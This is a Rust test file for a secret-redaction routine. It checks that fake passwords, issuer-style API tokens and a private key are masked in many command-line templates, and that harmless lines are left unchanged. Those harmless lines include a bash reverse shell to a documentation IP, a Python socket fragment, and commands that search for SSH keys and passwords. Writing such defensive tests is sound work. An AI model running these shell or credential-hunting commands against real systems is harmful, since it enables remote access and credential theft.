//! Made-up secrets that look real, in the places where people put them: none may be left.

use proptest::prelude::*;

use super::*;
use crate::normalise;

/// Tokens as their issuers make them, and some that were drawn by lot.
const ISSUED: &[[&str; 2]] = &[
    ["AK", "IAIOSFODNN7EXAMPLE"],
    ["gh", "p_16C7e42F292c6912E7710c838347Ae178B4a"],
    ["github_", "pat_11ABCDEFG0123456789_abcdefghijklmnop"],
    ["glp", "at-AbCdEf123456-XyZ789"],
    ["xo", "xb-123456789012-abcdefGHIJKL"],
    ["sk_", "live_4eC39HqLyjWDarjtT1zdp7dc"],
    ["sk", "-proj-abcDEF123456ghiJKL789"],
    ["AI", "zaSyD-9tSrke72PouQMnMX-a7eZSW0jkFMBWY"],
    ["ey", "JhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.dozjgNryP4J3jVmNHl0w5N"],
    ["np", "m_1234567890abcdefghijABCDEFGHIJ123456"],
    ["hv", "s.CAESIJ1234567890abcdefghijklmnop"],
    ["S", "G.ngeVfQFYQlKU0ufo8x5d1A.TwL2iGABf9DHoTf"],
    ["ya", "29.a0AfH6SMBx1234567890abcdef"],
    ["dop", "_v1_0123456789abcdef0123456789abcdef"],
    ["", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzzzzKEY12"],
    ["", "q8Zr4Kp2Xw9Lm5Tn7Vb3Yc6Df1Gh0Js"],
    ["", "5f4dcc3b5aa765d61d8327deb882cf99"],
];

/// Places of a secret that something announces.
const ANNOUNCED: &[&str] = &[
    "tool ¦ --password ¦ {}",
    "tool ¦ --password={}",
    "tool ¦ --db-password='{}'",
    "tool ¦ --api-key ¦ {}",
    "tool ¦ --token={}",
    "tool ¦ --client-secret ¦ {}",
    "env ¦ PGPASSWORD={} ¦ psql",
    "env ¦ AWS_SECRET_ACCESS_KEY={} ¦ aws",
    "env ¦ DB_PASS={} ¦ app",
    "mysql ¦ -uroot ¦ -p{} ¦ shop",
    "/usr/bin/mysqldump ¦ -p{}",
    "sshpass ¦ -p ¦ {} ¦ ssh ¦ host",
    "sshpass ¦ -p{} ¦ ssh ¦ host",
    "redis-cli ¦ -a ¦ {}",
    "docker ¦ login ¦ -u ¦ me ¦ -p ¦ {}",
    "curl ¦ -u ¦ me:{} ¦ https://x.example",
    "curl ¦ -ume:{} ¦ https://x.example",
    "curl ¦ --user ¦ me:{}",
    "curl ¦ -H ¦ Authorization: Bearer {}",
    "curl ¦ -H ¦ X-Api-Key: {}",
    "curl ¦ -H ¦ Cookie: {}",
    "curl ¦ -d ¦ {\"user\": \"me\", \"password\": \"{}\"}",
    "curl ¦ -d ¦ {\"user\":\"me\",\"password\":\"{}\",\"x\":1}",
    "curl ¦ -d ¦ user=me&password={}&x=1",
    "curl ¦ https://me:{}@x.example/path",
    "curl ¦ https://{}@x.example/path",
    "curl ¦ https://x.example/?access_token={}&x=1",
    "psql ¦ postgres://me:{}@db:5432/shop",
    "git ¦ clone ¦ https://oauth2:{}@git.example/x.git",
    "psql ¦ host=db user=me password={} dbname=x",
    "openssl ¦ enc ¦ -k ¦ x ¦ -passin ¦ pass:{}",
    "smbclient ¦ //h/s ¦ -U ¦ me%{}",
    "ldapsearch ¦ -w ¦ {}",
    "bash ¦ -c ¦ mysql -uroot -p{} -e 'select 1'",
    "bash ¦ -c ¦ export API_TOKEN={}; run",
    "bash ¦ -c ¦ export API_TOKEN=\"{}\" && run",
    "bash ¦ -c ¦ curl -H \"Authorization: Bearer {}\" x",
    "bash ¦ -c ¦ curl -H'Authorization: Basic {}' x",
    "bash ¦ -c ¦ sshpass -p '{}' ssh host",
    "bash ¦ -c ¦ PASSWORD={} ./run",
    "bash ¦ -c ¦ tool --password \"{}\" x",
    "bash ¦ -c ¦ bash -c \"mysql -p{} x\"",
    "python3 ¦ -c ¦ connect(user='me', password='{}')",
    "python3 ¦ -c ¦ password = \"{}\"; run()",
    "python3 ¦ -c ¦ os.environ[\"API_TOKEN\"] = '{}'",
    "java ¦ -Dspring.datasource.password={} ¦ -jar ¦ x",
];

/// Command lines with ` ¦ ` between their arguments, and the secret in them. Tokens of issuers are put together from two
/// halves, so that scanners of source code leave this file alone.
fn corpus() -> Vec<(String, String)> {
    let word = "hunter2-Tr0ub4dor";
    let mut corpus: Vec<(String, String)> = Vec::new();
    for template in ANNOUNCED {
        corpus.push((template.replace("{}", word), word.to_owned()));
        corpus.push((template.replace("{}", "correcthorse"), "correcthorse".to_owned()));
    }
    for halves in ISSUED {
        let secret = halves.concat();
        for template in [
            "tool ¦ {}",
            "bash ¦ -c ¦ tool {} | x",
            "tool ¦ --x={}",
            "echo ¦ say '{}' now",
            "tool ¦ a,{},b",
        ] {
            corpus.push((template.replace("{}", &secret), secret.clone()));
        }
    }
    let key = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC\nabcdEFGH1234";
    let block = format!("-----BEGIN PRIVATE KEY-----\n{key}\n-----END PRIVATE KEY-----");
    corpus.push((format!("bash ¦ -c ¦ echo '{block}' > k"), key.to_owned()));
    corpus
}

fn split(line: &str) -> Vec<String> {
    line.split(" ¦ ").map(str::to_owned).collect()
}

#[test]
fn no_secret_is_left_in_a_command_line_nor_in_its_template() {
    for (line, secret) in corpus() {
        for written in [redact_argv(&split(&line)), normalise::command_line(&split(&line))] {
            let text = written.join(" ¦ ");
            assert!(!text.contains(&secret), "{line}\n{text}");
            let half: String = secret.chars().take(secret.len() / 2 + 1).collect();
            assert!(!text.contains(&half), "half of it is left:\n{line}\n{text}");
        }
    }
}

#[test]
fn a_placeholder_says_where_a_secret_was_and_how_large() {
    for (line, expected) in [
        ("tool --password hunter22", "tool --password <secret:3>"),
        ("mysql -phunter22 shop", "mysql -p<secret:3> shop"),
        ("curl -u me:hunter22 x", "curl -u me:<secret:3> x"),
        ("psql postgres://me:hunter22@db/x", "psql postgres://<secret:3>@db/x"),
        (
            "curl -H 'Authorization: Bearer abcdefgh'",
            "curl -H 'Authorization: Bearer <secret:3>'",
        ),
        ("echo q8Zr4Kp2Xw9Lm5Tn7Vb3Yc6Df1Gh0Js", "echo <token:4>"),
    ] {
        assert_eq!(redact(line), expected);
    }
}

#[test]
fn what_is_no_secret_is_left_alone() {
    for line in [
        "find / -name id_rsa -exec ls -la {} ;",
        "grep -ri password /etc",
        "mysql -p shop",
        "tool --password-file /run/secrets/db",
        "tool --password \"$DB_PASSWORD\"",
        "tool --token ${TOKEN}",
        "ssh -i key.pem user@host",
        "/usr/lib/x86_64-linux-gnu/libstdc++.so.6",
        "bash -i >& /dev/tcp/203.0.113.9/4242 0>&1",
        "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)'",
        "kubectl get pods --all-namespaces -o jsonpath='{.items[*].spec}'",
        "java -Djava.awt.headless=true -XX:+UseContainerSupport com.example.VeryLongClassNameForEverything",
        "https://example.org/a/very-long-path-with-words/index.html?page=2#part",
        "größe=日本語 \u{202e}",
    ] {
        assert_eq!(redact(line), line);
    }
}

proptest! {
    #[test]
    fn redacting_twice_changes_nothing(text in prop_oneof![any::<String>(), "[a-zA-Z0-9 =:'\"/@<>&;.$-]{0,60}"]) {
        let once = redact(&text);
        prop_assert_eq!(redact(&once), once);
    }

    #[test]
    fn a_random_token_of_thirty_two_characters_is_seldom_left(
        tokens in prop::collection::vec("[A-Za-z0-9]{32}", 50),
    ) {
        let left = tokens.iter().filter(|token| redact(&format!("tool {token}")).contains(token.as_str())).count();
        prop_assert!(left <= 1, "{left} of 50");
    }

    #[test]
    fn an_announced_password_is_never_left(password in "[a-zA-Z0-9!#%*+,./:?@^_~-]{6,40}") {
        prop_assume!(!password.starts_with('-') && !named::is_harmless(&password));
        for argv in [
            vec!["tool".to_owned(), "--password".to_owned(), password.clone()],
            vec!["sshpass".to_owned(), "-p".to_owned(), password.clone()],
        ] {
            let text = redact_argv(&argv).join(" ");
            prop_assert!(!text.contains(&password), "{}", text);
        }
    }
}
